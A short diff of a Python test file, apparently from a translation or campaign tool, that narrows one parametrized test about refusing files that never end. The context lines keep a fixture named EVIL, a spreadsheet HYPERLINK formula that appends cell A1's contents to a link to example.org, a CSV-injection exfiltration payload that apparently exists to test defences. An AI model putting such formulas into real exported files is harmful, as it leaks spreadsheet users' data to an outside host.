@@ -20,6 +20,7 @@ from campaign.storage.chunks import CHUNK
 from campaign.storage.database import Database
 from campaign.text.flags import Flag
 from tests.conftest import APPROVAL_KEY, TODAY, Submit
+from tests.support.lanes import first
 from tests.support.review import get
 
 EVIL = '=HYPERLINK("http://example.org/?"&A1,"Stay strong")'
@@ -178,7 +179,7 @@ def test_a_broken_file_is_refused_with_its_line(tmp_path, name, content, said):
     assert str(refusal.value).startswith(f"{tmp_path}/{said}")
 
 
-@pytest.mark.parametrize("name", ["t.csv", "t.jsonl"])
+@pytest.mark.parametrize("name", first(1, ["t.csv", "t.jsonl"]))
 @pytest.mark.parametrize("make", [os.mkfifo, lambda file: os.truncate(file, translation_files.LONGEST + 1)])
 def test_a_file_without_end_is_refused_and_not_waited_for(tmp_path, name, make):
     if make is not os.mkfifo:
